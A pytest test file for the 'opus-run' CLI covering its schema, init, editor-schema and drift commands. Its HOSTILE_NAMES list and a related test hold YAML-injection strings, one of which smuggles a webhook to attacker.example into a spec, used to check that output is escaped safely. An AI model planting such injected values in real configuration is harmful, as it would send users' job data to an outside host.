"""``opus-run schema``, ``init``, ``init --editor-schema`` and ``drift``, against the sandbox."""

from __future__ import annotations

import copy
import datetime as dt
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from jsonschema import Draft202012Validator

from conftest import WF, WORKFLOWS, Project, header
from opus_runner.authoring import (
    compare_schemas,
    editor_schema,
    input_keys,
    slugify,
    starter_spec,
)
from opus_runner.lockfile import LOCK_FILE
from opus_runner.models import InputField, WorkflowRef, WorkflowSchema
from opus_runner.spec import load_spec
from opus_runner.workflow import resolve_input

#: schema, init, lock and drift work the same through the v1 Case API (issue 17).
pytestmark = pytest.mark.both_apis

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
ALL_VARS = [
    "workflow_input_title",
    "workflow_input_budget",
    "workflow_input_ok",
    "workflow_input_due",
    "workflow_input_doc",
    "workflow_input_more",
    "workflow_input_tags",
    "workflow_input_cfg",
]


# -- opus-run schema ---------------------------------------------------------------------------


def test_schema_table(project: Project) -> None:
    result = project.run("schema", WF["all-types"])
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert lines[0] == f'workflow "Every input type" ({WF["all-types"]}, version 2)'
    assert lines[1].split() == ["variable", "name", "display", "name", "type", "required", "allowed", "files"]
    rows = {line.split()[0]: line for line in lines[2:]}
    assert list(rows) == ALL_VARS
    assert rows["workflow_input_doc"].split() == ["workflow_input_doc", "Contract", "file", "yes", "PDF,", "TXT"]
    assert rows["workflow_input_due"].split() == ["workflow_input_due", "Due", "date", "date", "yes", "-"]
    assert rows["workflow_input_tags"].split() == ["workflow_input_tags", "Tags", "array", "no", "-"]


def test_schema_json_and_version_pin(project: Project) -> None:
    result = project.run("schema", WF["all-types"], "--format", "json")
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    assert (data["workflowId"], data["name"], data["version"]) == (WF["all-types"], "Every input type", 2)
    assert [i["variable_name"] for i in data["inputs"]] == ALL_VARS
    assert data["inputs"][5] == {
        "variable_name": "workflow_input_more",
        "display_name": "Attachments",
        "type": "array_files",
        "sent_type": "array",  # described live as an array of files
        "understood": True,
        "required": False,
        "allowed_file_types": ["CSV", "TXT"],
    }
    old = json.loads(project.run("schema", WF["all-types"], "--version", "1", "--format", "json").stdout)
    assert [(i["display_name"], i["type"]) for i in old["inputs"]] == [("Old title", "str")]


def test_schema_of_a_v2_only_workflow(project: Project) -> None:
    result = project.run("schema", WF["newer"])
    assert result.exit_code == 0, result.output
    assert "workflow_input_q" in result.stdout and "Question" in result.stdout


MISSING = "00000000-0000-4000-8000-00000000dead"  # a well-formed id no workflow has


def test_schema_unknown_workflow_is_one_sentence_exit_2(project: Project) -> None:
    result = project.run("schema", MISSING)
    assert result.exit_code == 2
    where = project.sandbox.base_url + ("/api/v1" if project.api == "v1" else "")  # where it was asked
    assert result.stderr == (
        f"error: workflow {MISSING!r} not found at {where}; check the workflow id "
        "(and --base-url or OPUS_BASE_URL)\n"
    )
    result = project.run("schema", WF["all-types"], "--version", "9")
    assert result.exit_code == 2
    assert f"workflow {WF['all-types']!r} (version 9) was not found" in result.stderr
    assert "has no version 9 (its versions: 1, 2)" in result.stderr
    result = project.run("schema", MISSING, "--format", "json")
    assert json.loads(result.stdout)["event"] == "error"


@pytest.mark.parametrize("command", ["schema", "init"])
def test_a_workflow_id_that_is_not_a_uuid_is_refused_before_any_request(project: Project, command: str) -> None:
    result = project.run(command, "CIAwZYFzQJwmADQN")
    assert result.exit_code == 2
    assert "the workflow id 'CIAwZYFzQJwmADQN' is not a UUID; Opus identifies workflows by UUID" in result.stderr
    assert sum(project.sandbox.state.requests.values()) == 0


def test_schema_usage_errors(project: Project) -> None:
    result = project.run("schema", WF["all-types"], "--version", "1", "--version-id", "x")
    assert result.exit_code == 2 and "give only one of them" in result.stderr
    result = project.run("schema", WF["all-types"], env={"OPUS_SERVICE_KEY": None})
    assert result.exit_code == 2 and "OPUS_SERVICE_KEY" in result.stderr


# -- opus-run init -----------------------------------------------------------------------------


def test_init_writes_a_spec_that_loads_and_validates_once_files_exist(project: Project) -> None:
    result = project.run("init", WF["all-types"], "-o", "specs/all.yaml")
    assert result.exit_code == 0, result.output
    path = project.root / "specs" / "all.yaml"
    spec = load_spec(path)  # as written, no edits
    assert spec.name == "every-input-type"
    assert spec.data["workflow"] == {"id": WF["all-types"]}
    inputs = spec.data["inputs"]
    assert list(inputs) == ["Title", "Budget", "Approved", "Due date", "Contract", "Attachments", "Tags", "Settings"]
    assert inputs == {
        "Title": "TODO",
        "Budget": 0,
        "Approved": False,
        "Due date": dt.date.today(),
        "Contract": {"file": "path/to/file.pdf"},
        "Attachments": {"files": ["path/to/*.csv"]},
        "Tags": [],
        "Settings": {},
    }
    text = path.read_text()
    assert "Contract: {file: path/to/file.pdf}" in text
    comments = {line.split(":")[0].strip(): line.split("#", 1)[1].strip() for line in text.splitlines() if line.startswith("  ") and "#" in line and not line.lstrip().startswith("#")}
    assert comments["Contract"] == "file, required, allowed: PDF, TXT (workflow_input_doc)"
    assert comments["Attachments"] == "array_files (sent as array of files), optional, allowed: CSV, TXT (workflow_input_more)"
    assert comments["Budget"] == "float, required (workflow_input_budget)"

    # The placeholders point at files that do not exist yet: live validation says so...
    result = project.run("validate", "specs/all.yaml")
    assert result.exit_code == 2
    assert "path/to/file.pdf" in result.stderr and "path/to/*.csv" in result.stderr
    # ...and passes once they do.
    project.file("specs/path/to/file.pdf", PDF)
    project.file("specs/path/to/data.csv", "a,b\n1,2\n")
    result = project.run("validate", "specs/all.yaml")
    assert result.exit_code == 0, result.output
    assert "1 job valid" in result.stderr


def test_init_prints_to_stdout_and_pins_a_version(project: Project) -> None:
    result = project.run("init", WF["all-types"], "--version", "1", "--name", "old-one")
    assert result.exit_code == 0, result.output
    assert result.stderr == ""
    path = project.file("old.yaml", result.stdout)
    spec = load_spec(path)
    assert spec.name == "old-one"
    assert spec.data["workflow"] == {"id": WF["all-types"], "version": 1}
    assert spec.data["inputs"] == {"Old title": "TODO"}
    assert project.run("validate", "old.yaml").exit_code == 0


def test_init_keys_shared_display_names_by_variable_name(project: Project) -> None:
    result = project.run("init", WF["dup-names"], "-o", "dup.yaml")
    assert result.exit_code == 0, result.output
    spec = load_spec(project.root / "dup.yaml")
    assert spec.data["inputs"] == {"workflow_input_a": "TODO", "workflow_input_b": "TODO"}
    assert project.run("validate", "dup.yaml").exit_code == 0


def test_init_refuses_to_overwrite_without_force(project: Project) -> None:
    target = project.file("mine.yaml", "keep me\n")
    result = project.run("init", WF["quick"], "-o", "mine.yaml")
    assert result.exit_code == 2
    assert "mine.yaml already exists; pass --force" in result.stderr
    assert target.read_text() == "keep me\n"
    assert project.sandbox.state.count("GET", "workflow") == 0  # refused before asking the API
    result = project.run("init", WF["quick"], "-o", "mine.yaml", "--force")
    assert result.exit_code == 0, result.output
    assert load_spec(target).data["inputs"] == {"Question": "TODO", "Count": 0}


def test_init_usage_errors(project: Project) -> None:
    result = project.run("init", WF["quick"], "--name", "Not Valid")
    assert result.exit_code == 2 and "--name 'Not Valid' must be lower-case" in result.stderr
    result = project.run("init", WF["quick"], "-o", "spec.json")
    assert result.exit_code == 2 and "name the file *.yaml or *.yml" in result.stderr
    result = project.run("init", MISSING)
    assert result.exit_code == 2 and f"workflow {MISSING!r} not found" in result.stderr


def _field(var: str, display: str, type_: str = "str", **kw: Any) -> InputField:
    return InputField(var, display, type_, **kw)


ODD = WorkflowSchema(
    workflow_id="0123",
    name="Ünïcode: report #1!",
    inputs=(
        _field("v1", "key: with colon"),
        _field("v2", "# hash"),
        _field("v3", "yes"),
        _field("v4", "Naïve café"),
        _field("v5", "Shared"),
        _field("v6", "Shared", "float"),
        _field("v7", "v1"),  # a display name that is another input's variable name
        _field("v8", " padded ", "bool", nullable=True),
        _field("v9", "Weird", "vector"),  # a type this version does not know
        _field("v10", 'quote " and \\ backslash', "date"),
    ),
)


def test_starter_spec_quotes_keys_so_each_resolves_to_its_input(tmp_path: Path) -> None:
    text = starter_spec(ODD, ref=WorkflowRef("0123"), today=dt.date(2026, 1, 2))
    path = tmp_path / "odd.yaml"
    path.write_text(text)
    spec = load_spec(path)
    assert spec.name == "unicode-report-1"
    assert spec.data["workflow"]["id"] == "0123"
    keys = list(spec.data["inputs"])
    assert [resolve_input(ODD, k).variable_name for k in keys] == [f.variable_name for f in ODD.inputs]
    assert keys[4:7] == ["v5", "v6", "v7"]
    assert spec.data["inputs"]["quote \" and \\ backslash"] == dt.date(2026, 1, 2)
    assert input_keys(ODD)["v3"] == "yes"


#: Names a hostile or careless server may give: each would end a line, start a comment, a key,
#: a list item or a flow mapping, or close a quote, if written into the YAML as it is.
HOSTILE_NAMES = [
    "Title\nnotify: [{type: webhook, url: 'https://attacker.example/hook'}]",
    "Title\r\nnotify: x",
    "a # not a comment",
    "key: value",
    "\"quoted\" and 'single'",
    "- item",
    "{flow: map}",
    "[list]",
    "line\u2028separator\u2029paragraph",
    "next\x85line",
    "esc\x1b[2J\x07bell\x00nul",
    "&anchor *alias !tag |literal >folded %directive @at `tick`",
    "...",
    "---",
]


@pytest.mark.parametrize("hostile", HOSTILE_NAMES)
def test_starter_spec_writes_server_names_through_the_yaml_emitter(hostile: str) -> None:
    schema = WorkflowSchema(
        workflow_id="0123",
        name=hostile,
        inputs=(
            _field("v_display", hostile),  # keyed by its display name
            _field(f"{hostile}_var", "Shared"),  # two "Shared": keyed by their variable names
            _field("v_file", "Shared", "file", allowed_file_types=(hostile,)),
            _field("v_files", "Files", "array_files", allowed_file_types=(hostile,)),
        ),
    )
    text = starter_spec(schema, ref=WorkflowRef("0123"), today=dt.date(2026, 1, 2))
    data = yaml.safe_load(text)
    assert list(data) == ["apiVersion", "kind", "metadata", "workflow", "inputs"]
    assert data["metadata"] == {"name": slugify(hostile, fallback="0123")}
    assert data["workflow"] == {"id": "0123"}
    extension = hostile.lower()
    assert data["inputs"] == {
        hostile: "TODO",
        f"{hostile}_var": "TODO",
        "v_file": {"file": f"path/to/file.{extension}"},
        "Files": {"files": [f"path/to/*.{extension}"]},
    }
    # The comments carry the names too, flattened to one printable line each: the spec has as
    # many lines (by every line break Python knows) as one written for harmless names.
    harmless = WorkflowSchema(workflow_id="0123", name="n", inputs=tuple(
        _field(f.variable_name if f.variable_name.startswith("v_") else "v", f.display_name if f.display_name != hostile else "d",
               f.type, allowed_file_types=("pdf",) if f.allowed_file_types else ()) for f in schema.inputs
    ))
    assert len(text.splitlines()) == len(starter_spec(harmless, ref=WorkflowRef("0123")).splitlines())


def test_init_of_a_workflow_with_hostile_names_writes_only_its_inputs(
    tmp_path: Path, opus_sandbox_factory: Callable[..., Any]
) -> None:
    from conftest import make_project

    hook = "notify: [{type: webhook, url: 'https://attacker.example/hook'}]"
    wid = "00000000-0000-4000-8000-0000000000aa"
    workflows = {
        "workflows": {
            wid: {
                "name": f"Report\n{hook}",
                "duration": "0.1s",
                "inputs": [
                    {"variable_name": f"workflow_input_a\n{hook}", "display_name": "A", "type": "str"},
                    {"variable_name": "workflow_input_b", "display_name": f"B\n{hook}", "type": "str"},
                    {"variable_name": "workflow_input_c", "display_name": "C\u2028# x: 1", "type": "str"},
                ],
                "outputs": {"answer": "{{ inputs.A }}"},
            }
        }
    }
    project = make_project(tmp_path, opus_sandbox_factory, workflows)
    result = project.run("init", wid, "-o", "hostile.yaml")
    assert result.exit_code == 0, result.output
    spec = load_spec(project.root / "hostile.yaml")
    assert set(spec.data) == {"apiVersion", "kind", "metadata", "workflow", "inputs"}
    assert spec.data["inputs"] == {"A": "TODO", f"B\n{hook}": "TODO", "C\u2028# x: 1": "TODO"}
    result = project.run("validate", "hostile.yaml")
    assert result.exit_code == 0, result.output


@pytest.mark.parametrize(
    ("text", "slug"),
    [
        ("Summarize a document", "summarize-a-document"),
        ("  Crème brûlée -- v2.0!  ", "creme-brulee-v2.0"),
        ("???", "job"),
        ("x" * 150, "x" * 100),
        ("_private", "private"),
    ],
)
def test_slugify(text: str, slug: str) -> None:
    assert slugify(text) == slug


# -- opus-run init --editor-schema -------------------------------------------------------------


def _as_editor_sees(text: str) -> Any:
    # YAML timestamps are strings to a YAML language server; JSON has no date type either.
    return json.loads(json.dumps(yaml.safe_load(text), default=str))


GOOD_SPEC = header("all", "all-types") + """\
vars: {month: "2026-11"}
inputs:
  workflow_input_title: "Report {{ vars.month }}"
  Budget: "45.8"
  Approved: "yes"
  Due date: 2026-12-15
  Contract: {file: data/contract.pdf}
  Attachments: {files: ["data/*.csv", "https://example.com/extra.txt"]}
  Tags: '["a", "b"]'
  Settings: {value: {depth: 2}, type: object}
"""


@pytest.fixture
def editor_validator(project: Project) -> Draft202012Validator:
    result = project.run("init", WF["all-types"], "--editor-schema", "-o", "all.schema.json")
    assert result.exit_code == 0, result.output
    schema = json.loads((project.root / "all.schema.json").read_text())
    Draft202012Validator.check_schema(schema)
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    return Draft202012Validator(schema)


def _problems(validator: Draft202012Validator, text: str) -> list[str]:
    return [e.message for e in validator.iter_errors(_as_editor_sees(text))]


def test_editor_schema_accepts_a_correct_spec(editor_validator: Draft202012Validator, project: Project) -> None:
    assert _problems(editor_validator, GOOD_SPEC) == []
    # The same spec is valid for the runner too (the editor schema is not stricter than it).
    project.file("data/contract.pdf", PDF)
    project.file("data/a.csv", "x\n1\n")
    project.spec("all.yaml", GOOD_SPEC)
    assert project.run("validate", "all.yaml").exit_code == 0
    templated = GOOD_SPEC.replace('Budget: "45.8"', 'Budget: "{{ vars.budget }}"').replace("Tags: '[\"a\", \"b\"]'", "Tags: null")
    assert _problems(editor_validator, templated) == []
    # Other written forms of the coercion table: a plain mapping for an object, a list of
    # paths for array_files, a URL for a file, 0/1 and on/off for a bool.
    other = (
        GOOD_SPEC.replace("Settings: {value: {depth: 2}, type: object}", "Settings: {depth: 2}")
        .replace('Attachments: {files: ["data/*.csv", "https://example.com/extra.txt"]}', "Attachments: [data/a.csv]")
        .replace("Contract: {file: data/contract.pdf}", "Contract: https://example.com/c.pdf")
        .replace('Approved: "yes"', "Approved: 'OFF'")
    )
    assert _problems(editor_validator, other) == []


@pytest.mark.parametrize(
    "change",
    [
        ('Budget: "45.8"', 'Budget: "lots"'),  # not a number
        ('Budget: "45.8"', "Budget: true"),  # booleans are not numbers
        ('Approved: "yes"', "Approved: maybe"),
        ("Due date: 2026-12-15", "Due date: next week"),
        ("Contract: {file: data/contract.pdf}", "Contract: {files: [a.pdf]}"),
        ("Tags: '[\"a\", \"b\"]'", "Tags: {a: 1}"),
        ("Settings: {value: {depth: 2}, type: object}", "Settings: {value: {depth: 2}, type: str}"),
        ('workflow_input_title: "Report {{ vars.month }}"', 'Colour: "red"'),  # unknown input
        ('workflow_input_title: "Report {{ vars.month }}"', 'Title: "x"\n  workflow_input_title: "y"'),  # both names
        ('workflow_input_title: "Report {{ vars.month }}"', "Title: null"),  # required
        ('  workflow_input_title: "Report {{ vars.month }}"\n', ""),  # required input missing
    ],
)
def test_editor_schema_rejects_wrong_inputs(editor_validator: Draft202012Validator, change: tuple[str, str]) -> None:
    old, new = change
    assert old in GOOD_SPEC
    assert _problems(editor_validator, GOOD_SPEC.replace(old, new)) != []


def test_editor_schema_units() -> None:
    schema = editor_schema(ODD)
    Draft202012Validator.check_schema(schema)
    inputs = schema["properties"]["inputs"]["properties"]
    # Display names and variable names both complete; a shared display name only by variable.
    assert {"key: with colon", "v1", "v5", "v6", "Shared"} - set(inputs) == {"Shared"}
    assert "Shared" in schema["properties"]["inputs"]["description"]
    assert inputs["Naïve café"]["description"].startswith("str, required. Variable name v4")
    assert schema["required"] == ["apiVersion", "kind", "metadata", "workflow", "inputs"]
    validator = Draft202012Validator(schema)
    spec = {"apiVersion": "opus-runner/v1", "kind": "Job", "metadata": {"name": "x"}, "workflow": {"id": "other"}}
    spec["inputs"] = {f.variable_name: "x" for f in ODD.inputs}
    spec["inputs"].update({"v6": 1, "v8": None, "v9": [1, 2], "v10": "2026-01-02"})
    messages = [e.message for e in validator.iter_errors(spec)]
    assert len(messages) == 1 and "other" in messages[0]  # the schema is for workflow 0123 only


# -- opus-run drift ----------------------------------------------------------------------------


def _changed_workflows(change: Callable[[dict[str, Any]], None]) -> dict[str, Any]:
    workflows = copy.deepcopy(WORKFLOWS)
    change(workflows["workflows"])
    return workflows


def _drift_project(project: Project) -> None:
    project.file("data/contract.pdf", PDF)
    project.spec(
        "a.yaml",
        header("a", "all-types")
        + "inputs:\n  Title: t\n  Budget: 2\n  Approved: true\n  Due date: 2026-01-01\n  Contract: data/contract.pdf\n",
    )
    project.spec("b.yaml", header("b", "all-types") + "inputs:\n  Title: t\n  workflow_input_budget: 3\n  Approved: false\n  Due date: 2026-01-01\n  Contract: data/contract.pdf\n  Tags: []\n")
    project.spec("q.yaml", header("q", "quick") + "inputs:\n  Question: why\n")
    result = project.run("lock", ".")
    assert result.exit_code == 0, result.output


def test_drift_reports_exactly_the_breaking_changes(project: Project, opus_sandbox_factory: Callable[..., Any]) -> None:
    _drift_project(project)

    def change(w: dict[str, Any]) -> None:
        inputs = w[WF["all-types"]]["inputs"]
        inputs[1] = {**inputs[1], "type": "str"}  # Budget: float -> str
        inputs.append({"variable_name": "workflow_input_region", "display_name": "Region", "type": "str"})

    live = opus_sandbox_factory(_changed_workflows(change))
    env = {"OPUS_BASE_URL": live.base_url, "OPUS_SERVICE_KEY": live.key}
    result = project.run("drift", ".", "--format", "json", env=env)
    assert result.exit_code == 1, result.output
    report = json.loads(result.stdout)
    by_key = {w["key"]: w for w in report["workflows"]}
    assert set(by_key) == {f"{WF['all-types']}@latest", f"{WF['quick']}@latest"}
    assert by_key[f"{WF['quick']}@latest"]["changes"] == [] and by_key[f"{WF['quick']}@latest"]["breaks"] == []
    drift = by_key[f"{WF['all-types']}@latest"]
    assert [(c["change"], c["variable_name"], c["old"], c["new"], c["required"]) for c in drift["changes"]] == [
        ("retyped", "workflow_input_budget", "float", "str", True),
        ("added", "workflow_input_region", None, "str", True),
    ]
    assert sorted(drift["specs"]) == ["a.yaml", "b.yaml"]
    assert sorted((b["spec"], b["reason"]) for b in drift["breaks"]) == [
        ("a.yaml", "lacks input Region (workflow_input_region), which is now required"),
        ("a.yaml", "sets input 'Budget', whose type changed from float to str"),
        ("b.yaml", "lacks input Region (workflow_input_region), which is now required"),
        ("b.yaml", "sets input 'workflow_input_budget', whose type changed from float to str"),
    ]
    assert report["breaking"] is True and report["exit_code"] == 1

    text = project.run("drift", ".", env=env)
    assert text.exit_code == 1
    assert f"{WF['all-types']}@latest (Every input type): 2 changes" in text.stdout
    assert f"{WF['quick']}@latest (Quick): no input changes" in text.stdout
    row = next(line for line in text.stdout.splitlines() if line.strip().startswith("retyped"))
    assert row.split() == ["retyped", "Budget", "(workflow_input_budget)", "float", "str"]
    assert "2 specs break (a.yaml, b.yaml)" in text.stdout
    # The lock is untouched: drift only reports.
    assert "workflow_input_region" not in (project.root / LOCK_FILE).read_text()


def test_drift_non_breaking_change_exits_0(project: Project, opus_sandbox_factory: Callable[..., Any]) -> None:
    _drift_project(project)

    def change(w: dict[str, Any]) -> None:
        w[WF["quick"]]["inputs"].append(
            {"variable_name": "workflow_input_lang", "display_name": "Language", "type": "str", "is_nullable": True}
        )
        w[WF["all-types"]]["inputs"][6] = {**w[WF["all-types"]]["inputs"][6], "type": "object"}  # Tags: only b.yaml sets it
        w[WF["all-types"]]["inputs"][4] = {**w[WF["all-types"]]["inputs"][4], "allowed_file_types": ["PDF"]}

    live = opus_sandbox_factory(_changed_workflows(change))
    env = {"OPUS_BASE_URL": live.base_url, "OPUS_SERVICE_KEY": live.key}
    result = project.run("drift", "a.yaml", "q.yaml", "--format", "json", env=env)
    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    changes = {w["key"]: [(c["change"], c["variable_name"]) for c in w["changes"]] for w in report["workflows"]}
    assert changes == {
        f"{WF['all-types']}@latest": [("file_types_changed", "workflow_input_doc"), ("retyped", "workflow_input_tags")],
        f"{WF['quick']}@latest": [("added", "workflow_input_lang")],
    }
    assert report["breaking"] is False
    # b.yaml sets Tags, which was retyped: with it, the same drift breaks a spec.
    result = project.run("drift", ".", env=env)
    assert result.exit_code == 1
    assert "breaks b.yaml: sets input 'Tags', whose type changed from array to object" in result.stdout


def test_drift_without_the_workflow_in_the_lock_exits_2(project: Project) -> None:
    project.spec("q.yaml", header("q", "quick") + "inputs:\n  Question: why\n")
    assert project.run("lock", "q.yaml").exit_code == 0
    project.spec("n.yaml", header("n", "newer") + "inputs:\n  Question: why\n")
    result = project.run("drift", ".")
    assert result.exit_code == 2
    assert f"opus-runner.lock has no entry for workflow {WF['newer']!r} (latest version) used by n.yaml" in result.stderr
    assert "run 'opus-run lock <specs>'" in result.stderr
    (project.root / LOCK_FILE).unlink()
    before = sum(project.sandbox.state.requests.values())
    result = project.run("drift", ".")
    assert result.exit_code == 2 and "run 'opus-run lock" in result.stderr
    assert sum(project.sandbox.state.requests.values()) == before  # no lock: nothing fetched


def test_compare_schemas_units() -> None:
    old = WorkflowSchema("w", inputs=(
        _field("a", "A"),
        _field("b", "B", nullable=True),
        _field("c", "C", "file", allowed_file_types=("PDF",)),
        _field("d", "D"),
    ))
    new = WorkflowSchema("w", inputs=(
        _field("a", "Alpha"),
        _field("b", "B"),
        _field("c", "C", "file", nullable=True, allowed_file_types=("PDF", "TXT")),
        _field("e", "E", nullable=True),
    ))
    assert [(c.kind, c.variable_name) for c in compare_schemas(old, new)] == [
        ("renamed", "a"),
        ("made_required", "b"),
        ("made_optional", "c"),
        ("file_types_changed", "c"),
        ("removed", "d"),
        ("added", "e"),
    ]
    assert compare_schemas(old, old) == []


def test_a_starter_spec_that_does_not_read_back_as_written_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    import opus_runner.authoring as authoring
    from opus_runner.errors import ApiError

    monkeypatch.setattr(authoring, "yaml_string", lambda text: text)  # an escaping bug, on purpose
    schema = WorkflowSchema(workflow_id="0123", name="n", inputs=(_field("v1", "A\nnotify: [{type: log}]"),))
    with pytest.raises(ApiError, match="cannot be written into a starter spec safely"):
        starter_spec(schema, ref=WorkflowRef("0123"))
